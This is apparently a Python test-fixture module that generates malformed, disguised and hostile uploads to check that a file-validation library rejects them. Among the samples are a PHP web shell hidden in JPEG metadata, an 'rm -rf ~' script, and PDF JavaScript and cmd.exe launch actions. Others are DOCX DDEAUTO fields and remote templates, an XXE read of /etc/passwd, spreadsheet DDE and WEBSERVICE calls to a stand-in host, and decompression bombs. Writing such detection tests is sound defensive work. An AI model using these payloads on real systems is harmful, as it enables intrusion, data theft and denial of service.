"""Files that would do harm, or that are not what they seem, made by code: case → (name as sent, content, words)."""

import struct
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from alliance.files import checking, faults, naming, office, pdfs, pictures, telling

from .sound import (
    box,
    docx,
    docx_parts,
    full_box,
    jpg,
    mp4,
    object_stream,
    pdf,
    png,
    points,
    ties,
    types,
    unzipped,
    xlsx,
    zipped,
)

PAGE = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JAR = zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
PROGRAM = b"MZ" + bytes(200) + b"PE\0\0"
OLD_OFFICE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
XLSX_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4) + kind + body + zlib.crc32(kind + body).to_bytes(4)


def png_of(width: int, height: int, rows: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def with_segment(content: bytes, marker: int, body: bytes) -> bytes:
    return content[:2] + b"\xff" + bytes([marker]) + (len(body) + 2).to_bytes(2) + body + content[2:]


def huge_jpg() -> bytes:
    """A small picture whose frame tells 60,000 by 60,000 points."""
    content = jpg(exif=b"", comment=b"")
    frame = content.index(b"\xff\xc0")
    return content[: frame + 5] + struct.pack(">HH", 60_000, 60_000) + content[frame + 9 :]


def bomb(part: str, size: int, parts: int = 1) -> bytes:
    more = {part.format(number): bytes(size) for number in range(parts)}
    return zipped(docx_parts() | more)


def overlapping() -> bytes:
    """Two entries of the directory that name the same packed content."""
    content = bytearray(docx({"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    with zipfile.ZipFile(BytesIO(content)) as archive:
        start, first, second = archive.start_dir, *archive.infolist()[-2:]
    place = content.rindex(second.filename.encode()) - 4
    assert place > start
    content[place : place + 4] = first.header_offset.to_bytes(4, "little")
    return bytes(content)


def encrypted() -> bytes:
    """The flag of a password on every part."""
    content = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def lying_about_size() -> bytes:
    """A part that unpacks to more than the directory tells."""
    content = bytearray(docx({"word/a.xml": b"<a>" + bytes(100_000)}))
    at = content.rindex(b"word/a.xml") - 46 + 24
    content[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def stored(parts: Mapping[str, bytes | str]) -> bytes:
    """An archive in which nothing is packed."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def with_link() -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def twice() -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", "<other/>")
    return file.getvalue()


def tied(*of: tuple[str, str, bool]) -> bytes:
    return docx({"word/_rels/document.xml.rels": ties(*of)})


def with_type(part: str, said: str, content: bytes | str = "<a/>") -> bytes:
    more = f'<Override PartName="/{part}" ContentType="{said}"/>'
    return docx({"[Content_Types].xml": types(more=more), part: content})


def field(text: str) -> bytes:
    return zipped(docx_parts(f"<w:p><w:r>{text}</w:r></w:p>"))


def sheet_with(part: str, content: bytes | str) -> bytes:
    return zipped(unzipped(xlsx()) | {part: content})


DANGEROUS: dict[str, tuple[str, bytes, str]] = {
    # not what is taken
    "nothing": ("photo.jpg", b"", checking.EMPTY),
    "a page": ("page.html", PAGE, telling.TAKEN),
    "a page called a picture": ("photo.jpg", PAGE, telling.TAKEN),
    "an svg": ("picture.svg", SVG, telling.TAKEN),
    "an svg called a png": ("picture.png", SVG, telling.TAKEN),
    "an svg with a preamble": ("picture.png", b'<?xml version="1.0"?>' + SVG, telling.TAKEN),
    "text": ("notes.pdf", b"only words", telling.TAKEN),
    "a program": ("photo.jpg", PROGRAM, telling.TAKEN),
    "a program called a sheet": ("list.xlsx", PROGRAM, telling.TAKEN),
    "a shell script": ("photo.png", b"#!/bin/sh\nrm -rf ~\n", telling.TAKEN),
    "a gif": ("photo.gif", b"GIF89a" + bytes(40), telling.TAKEN),
    "a gif with a jar (gifar)": ("photo.jpg", b"GIF89a" + bytes(40) + JAR, telling.TAKEN),
    "a jar": ("list.xlsx", JAR, office.NO_OFFICE),
    "an archive": ("list.docx", zipped({"a.txt": "words"}), office.NO_OFFICE),
    "an archive in an archive": ("list.docx", zipped({"inner.zip": JAR}), office.NO_OFFICE),
    "an old office file": ("list.xlsx", OLD_OFFICE, telling.OLD),
    "an encrypted office file": ("list.xlsx", OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"), faults.PASSWORD),
    "a heic": ("photo.jpg", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1", telling.HEIC),
    "a quicktime movie": ("video.mp4", b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(20), telling.MOVIE),
    "a presentation": (
        "list.docx",
        zipped({"[Content_Types].xml": types("application/vnd.x.presentationml+xml")}),
        office.NO_OFFICE,
    ),
    # names
    "a name that leads up": ("../photo.jpg", jpg(), naming.PATH),
    "a name that leads up in Windows": ("..\\photo.jpg", jpg(), naming.PATH),
    "an absolute name": ("/etc/photo.jpg", jpg(), naming.PATH),
    "a name with a drive": ("C:\\photo.jpg", jpg(), naming.PATH),
    "a name with NUL": ("photo.php\0.jpg", jpg(), naming.HIDDEN),
    "a name turned round": ("photo\u202egpj.exe.jpg", jpg(), naming.HIDDEN),
    "a name with a line break": ("photo\r\nX-Evil: 1.jpg", jpg(), naming.HIDDEN),
    "no name": ("", jpg(), naming.NO_NAME),
    "no name but dots": ("...", jpg(), naming.NO_NAME),
    "an ending that runs": ("photo.jpg.exe", jpg(), naming.WRONG_ENDING),
    "a running ending within": ("photo.exe.jpg", jpg(), naming.TWO_ENDINGS),
    "a php ending within": ("photo.php.jpg", jpg(), naming.TWO_ENDINGS),
    "two kinds in the name": ("letter.pdf.docx", docx(), naming.TWO_ENDINGS),
    "another kind's ending": ("photo.png", jpg(), naming.WRONG_ENDING),
    "a sheet called a document": ("list.docx", xlsx(), naming.WRONG_ENDING),
    "a hidden stream": ("photo.jpg::$DATA", jpg(), naming.WRONG_ENDING),
    "no ending": ("photo", jpg(), naming.WRONG_ENDING),
    # pictures
    "a jpg cut off": ("photo.jpg", jpg()[:-40], faults.CUT_OFF),
    "a jpg of which only the end is missing": ("photo.jpg", jpg()[:-2], faults.CUT_OFF),
    "the head of a jpg": ("photo.jpg", jpg()[:20], faults.CUT_OFF),
    "a jpg with a jar": ("photo.jpg", jpg() + JAR, faults.TWO_IN_ONE),
    "a jpg with a page behind it": ("photo.jpg", jpg() + PAGE, faults.TWO_IN_ONE),
    "a jpg with a program behind it": ("photo.jpg", jpg() + PROGRAM, faults.TWO_IN_ONE),
    "a jpg with a page in its comment": ("photo.jpg", with_segment(jpg(), 0xFE, b"x" * 2000 + PAGE), faults.TWO_IN_ONE),
    "a jpg with php in its notes": (
        "photo.jpg",
        with_segment(jpg(), 0xE1, b"<?php system($_GET[0]); ?>"),
        faults.TWO_IN_ONE,
    ),
    "a jpg that begins a page": ("photo.jpg", with_segment(jpg(), 0xFE, PAGE), faults.TWO_IN_ONE),
    "a jpg that begins a pdf": ("photo.jpg", with_segment(jpg(), 0xFE, pdf()), faults.TWO_IN_ONE),
    "a jpg with a page behind a second picture": ("photo.jpg", jpg() + jpg() + PAGE, faults.TWO_IN_ONE),
    "a jpg with a page in a telephone's directory": (
        "photo.jpg",
        jpg() + PAGE + b"SEFH" + bytes(8) + (12).to_bytes(4, "little") + b"SEFT",
        faults.TWO_IN_ONE,
    ),
    "a jpg with too many points": ("photo.jpg", huge_jpg(), pictures.TOO_MANY_PIXELS),
    "a jpg whose points are no picture": (
        "photo.jpg",
        b"\xff\xd8\xff\xda\0\x02" + bytes(50) + b"\xff\xd9",
        faults.DAMAGED,
    ),
    "a png cut off": ("photo.png", png()[:-30], faults.CUT_OFF),
    "a png without its end": ("photo.png", png()[:-12], faults.CUT_OFF),
    "a png with a page behind it": ("photo.png", png() + PAGE, faults.TWO_IN_ONE),
    "a png with an archive in a chunk": (
        "photo.png",
        png()[:-12] + chunk(b"prVt", JAR) + png()[-12:],
        faults.TWO_IN_ONE,
    ),
    "a png with a page in its words": (
        "photo.png",
        png()[:33] + chunk(b"tEXt", b"k\0" + bytes(1500) + PAGE) + png()[33:],
        faults.TWO_IN_ONE,
    ),
    "a png with an altered chunk": (
        "photo.png",
        png().replace(b"IDAT", b"IDAT", 1)[:-20] + b"\0\0\0\0" + png()[-16:],
        faults.DAMAGED,
    ),
    "a png of too many points": ("photo.png", png_of(60_000, 60_000, b""), pictures.TOO_MANY_PIXELS),
    "a png with fewer rows than it tells": ("photo.png", png_of(2000, 2000, bytes(100)), faults.DAMAGED),
    "a jpg of very many parts": ("photo.jpg", b"\xff\xd8" + b"\xff\xd0" * 1_000_000 + b"\xff\xd9", faults.DAMAGED),
    "a jpg before very many others": ("photo.jpg", jpg() + b"\xff\xd8\xff\xd9" * 1_000_000, faults.TWO_IN_ONE),
    "a png of very many parts": ("photo.png", png()[:33] + chunk(b"tEXt", b"a\0b") * 100_000, faults.DAMAGED),
    # documents
    "a pdf cut off": ("letter.pdf", pdf()[:-60], faults.CUT_OFF),
    "a pdf of which only the last line is missing": ("letter.pdf", pdf()[:-7], faults.CUT_OFF),
    "a pdf with an archive": ("letter.pdf", pdf() + JAR, faults.TWO_IN_ONE),
    "a pdf with a page behind it": ("letter.pdf", pdf() + PAGE, faults.TWO_IN_ONE),
    "a pdf that begins as a page": ("letter.pdf", pdf().replace(b"\n", b"\n%" + PAGE + b"\n", 1), faults.TWO_IN_ONE),
    "a pdf behind something else": ("letter.pdf", b"words\n" + pdf(), telling.TAKEN),
    "a pdf with script": ("letter.pdf", pdf(JAVASCRIPT, catalog=b"/OpenAction 5 0 R"), pdfs.ACTS),
    "a pdf with script for later": ("letter.pdf", pdf(JAVASCRIPT, catalog=b"/Names<</JavaScript 5 0 R>>"), pdfs.ACTS),
    "a pdf with script under a disguised name": ("letter.pdf", pdf(b"<</S/J#61vaScript/JS(x)>>"), pdfs.ACTS),
    "a pdf with packed script": ("letter.pdf", pdf(object_stream(JAVASCRIPT)), pdfs.ACTS),
    "a pdf with packed and disguised script": (
        "letter.pdf",
        pdf(object_stream(b"<</S/Java#53cript/JS(x)>>")),
        pdfs.ACTS,
    ),
    "a pdf with script packed in two ways": (
        "letter.pdf",
        pdf(object_stream(JAVASCRIPT, entries=b"/Filter[/ASCIIHexDecode/FlateDecode]")),
        pdfs.UNREADABLE,
    ),
    "a pdf with script packed with a predictor": (
        "letter.pdf",
        pdf(object_stream(JAVASCRIPT, entries=b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
        pdfs.UNREADABLE,
    ),
    "a pdf with script in a stream that hides its type": (
        "letter.pdf",
        pdf(object_stream(JAVASCRIPT).replace(b"/Type/ObjStm", b"/X(obj<<)/Y(>>)")),
        pdfs.ACTS,
    ),
    "a pdf that starts a program": (
        "letter.pdf",
        pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=b"/OpenAction 5 0 R"),
        pdfs.ACTS,
    ),
    "a pdf that opens an address": (
        "letter.pdf",
        pdf(b"<</S/URI/URI(http://x.example)>>", catalog=b"/OpenAction 5 0 R"),
        pdfs.ACTS,
    ),
    "a pdf that acts at once": ("letter.pdf", pdf(catalog=b"/OpenAction<</S/Named/N/Print>>"), pdfs.ACTS),
    "a pdf that opens what is not there": ("letter.pdf", pdf(catalog=b"/OpenAction 77 0 R"), pdfs.ACTS),
    "a pdf with a file in it": ("letter.pdf", pdf(b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"), pdfs.ACTS),
    "a pdf with a form that runs": ("letter.pdf", pdf(b"<</XFA[(a)5 0 R]>>"), pdfs.ACTS),
    "a pdf that sends a form": ("letter.pdf", pdf(b"<</S/SubmitForm/F(http://x.example)>>"), pdfs.ACTS),
    "a pdf with a link that runs": ("letter.pdf", pdf(b"<</S/URI/URI(javascript:alert\\(1\\))>>"), pdfs.ACTS),
    "a pdf under a password": ("letter.pdf", pdf(b"<</Filter/Standard>>", trailer=b"/Encrypt 5 0 R"), faults.PASSWORD),
    "a pdf with a bomb": ("letter.pdf", pdf(object_stream(bytes(60_000_000))), faults.TOO_MUCH),
    "a pdf in which everything begins": ("letter.pdf", pdf(b"0 0 obj<<" * 200_000), pdfs.UNREADABLE),
    "a pdf that opens very many things": ("letter.pdf", pdf(b"/OpenAction 3 0 R " * 100_000), pdfs.ACTS),
    # sheets and documents of office programs
    "a docx cut off": ("list.docx", docx()[:-100], faults.CUT_OFF),
    "half a docx": ("list.docx", docx()[: len(docx()) // 2], faults.CUT_OFF),
    "a docx with something behind it": ("list.docx", docx() + PAGE, faults.TWO_IN_ONE),
    "a docx behind a program": ("list.docx", PROGRAM + docx(), telling.TAKEN),
    "a docx with something between its parts": (
        "list.docx",
        docx().replace(b"PK\x01\x02", PAGE + b"PK\x01\x02", 1),
        faults.TWO_IN_ONE,
    ),
    "a docx with a comment": ("list.docx", docx()[:-2] + len(PAGE).to_bytes(2, "little") + PAGE, faults.TWO_IN_ONE),
    "a docx behind another archive": ("list.docx", JAR + docx(), faults.TWO_IN_ONE),
    "a docx that begins a pdf": ("list.docx", stored({"a.xml": pdf()} | docx_parts()), faults.TWO_IN_ONE),
    "a docx with an altered part": (
        "list.docx",
        docx().replace(b"word/document.xml", b"word/document.xmm", 1),
        faults.DAMAGED,
    ),
    "a docx of which a part is damaged": ("list.docx", docx()[:60] + b"\xff\xff\xff" + docx()[63:], faults.DAMAGED),
    "a docx with one huge part": ("list.docx", bomb("word/a.xml", 50_000_000), faults.TOO_MUCH),
    "a docx with many large parts": ("list.docx", bomb("word/a{}.xml", 999_000, 120), faults.TOO_MUCH),
    "a docx with very many parts": ("list.docx", bomb("word/a{}.xml", 1, 3_100), faults.TOO_MUCH),
    "a docx with parts over each other": ("list.docx", overlapping(), faults.TWO_IN_ONE),
    "a docx that lies about a size": ("list.docx", lying_about_size(), faults.DAMAGED),
    "a docx under a password": ("list.docx", encrypted(), faults.PASSWORD),
    "a docx with a part that leads up": ("list.docx", docx({"../../evil.xml": "<a/>"}), faults.TWO_IN_ONE),
    "a docx with an absolute part": ("list.docx", docx({"/etc/evil.xml": "<a/>"}), faults.TWO_IN_ONE),
    "a docx with a link to a file": ("list.docx", with_link(), faults.DAMAGED),
    "a docx with a part twice": ("list.docx", twice(), faults.TWO_IN_ONE),
    "a docx with macros": ("list.docx", docx({"word/vbaProject.bin": OLD_OFFICE}), office.MACROS),
    "a docm called docx": ("list.docx", docx({"[Content_Types].xml": types(DOCM_TYPE)}), office.MACROS),
    "an xlsm called xlsx": ("list.xlsx", docx({"[Content_Types].xml": types(XLSX_TYPE)}), office.MACROS),
    "a docx with macros under another name": (
        "list.docx",
        with_type("word/a.xml", "application/vnd.ms-office.vbaProject"),
        office.MACROS,
    ),
    "a docx with a tie to macros": (
        "list.docx",
        tied(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.xml", False)),
        office.MACROS,
    ),
    "a docx with an object": ("list.docx", tied(("oleObject", "embeddings/a.xml", False)), office.MACROS),
    "a docx with a file in it": ("list.docx", tied(("package", "embeddings/a.xml", False)), office.MACROS),
    "a docx with a program as a picture": ("list.docx", docx({"word/media/a.png": PROGRAM}), faults.TWO_IN_ONE),
    "a docx with an archive as a picture": ("list.docx", docx({"word/media/a.jpeg": JAR}), faults.TWO_IN_ONE),
    "a docx with a program": ("list.docx", docx({"word/a.exe": PROGRAM}), office.MACROS),
    "a docx with a page": ("list.docx", tied(("aFChunk", "a.xml", False)), office.MACROS),
    "a docx with a template from elsewhere": (
        "list.docx",
        tied(("attachedTemplate", "https://x.example/a.dotm", True)),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with a picture from elsewhere": (
        "list.docx",
        tied(("image", "https://x.example/a.png", True)),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with a link into a network": (
        "list.docx",
        tied(("hyperlink", "\\\\x.example\\a", True)),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with a link to a disk": ("list.docx", tied(("hyperlink", "file:///C:/a.exe", True)), faults.FROM_ELSEWHERE),
    "a docx with a link that runs": (
        "list.docx",
        tied(("hyperlink", "javascript:alert(1)", True)),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with a field that runs": (
        "list.docx",
        field("<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with a spread field": (
        "list.docx",
        field("<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO c:\\cmd.exe</w:instrText>"),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with a simple field": (
        "list.docx",
        field("<w:fldSimple w:instr='INCLUDETEXT \"http://x.example\"'/>"),
        faults.FROM_ELSEWHERE,
    ),
    "a docx with entities": (
        "list.docx",
        docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        faults.DAMAGED,
    ),
    "a docx in another encoding": (
        "list.docx",
        docx({"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        faults.DAMAGED,
    ),
    "a docx in two bytes a letter": ("list.docx", docx({"word/a.xml": "<a/>".encode("utf-16")}), faults.DAMAGED),
    "a docx with a picture that runs": ("list.docx", docx({"word/media/a.svg": SVG}), office.MACROS),
    "an xlsx with a link to another": (
        "list.xlsx",
        sheet_with("xl/a.rels", ties(("externalLink", "b.xml", False))),
        faults.FROM_ELSEWHERE,
    ),
    "an xlsx with a data connection": (
        "list.xlsx",
        sheet_with("xl/a.rels", ties(("connections", "b.xml", False))),
        faults.FROM_ELSEWHERE,
    ),
    "an xlsx with a macro sheet": (
        "list.xlsx",
        sheet_with(
            "xl/a.rels", ties(("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "b", False))
        ),
        office.MACROS,
    ),
    "an xlsx that calls a program": ("list.xlsx", xlsx("=cmd|'/C calc'!A0"), faults.FROM_ELSEWHERE),
    "an xlsx that asks the web": ("list.xlsx", xlsx('=WEBSERVICE("http://x.example")'), faults.FROM_ELSEWHERE),
    "a docx with very many relationships": (
        "list.docx",
        docx({"word/_rels/a.xml.rels": ties(*(("image", f"media/{number}.png", False) for number in range(30_000)))}),
        faults.TOO_MUCH,
    ),
    # videos
    "an mp4 cut off": ("video.mp4", mp4()[:-200], faults.CUT_OFF),
    "an mp4 cut off in its pictures": ("video.mp4", mp4()[: mp4().index(b"mdat") + 10], faults.CUT_OFF),
    "an mp4 cut off between its boxes": ("video.mp4", mp4()[: mp4().index(b"moov") - 4], faults.CUT_OFF),
    "an mp4 without the end of a box": ("video.mp4", mp4()[:-20], faults.CUT_OFF),
    "an mp4 with pieces beyond its end": ("video.mp4", mp4(piece_at=1_000_000), faults.CUT_OFF),
    "an mp4 with a page behind it": ("video.mp4", mp4() + PAGE, faults.TWO_IN_ONE),
    "an mp4 with an archive": ("video.mp4", mp4() + JAR, faults.TWO_IN_ONE),
    "an mp4 with an archive in its pictures": ("video.mp4", mp4(media=JAR), faults.TWO_IN_ONE),
    "an mp4 that begins a page": ("video.mp4", mp4(media=PAGE), faults.TWO_IN_ONE),
    "an mp4 of very many boxes": ("video.mp4", mp4(in_movie=box(b"free") * 100_000), faults.DAMAGED),
    "an mp4 with its pictures elsewhere": (
        "video.mp4",
        mp4(reference=full_box(b"url ", b"http://x.example/\0")),
        faults.FROM_ELSEWHERE,
    ),
    "only the head of an mp4": ("video.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp42", faults.CUT_OFF),
    "two mp4 in one": ("video.mp4", mp4() + mp4(), faults.TWO_IN_ONE),
    "a picture that is too large": ("photo.jpg", jpg(points()) + bytes(20_000_000), checking.TOO_LARGE),
}
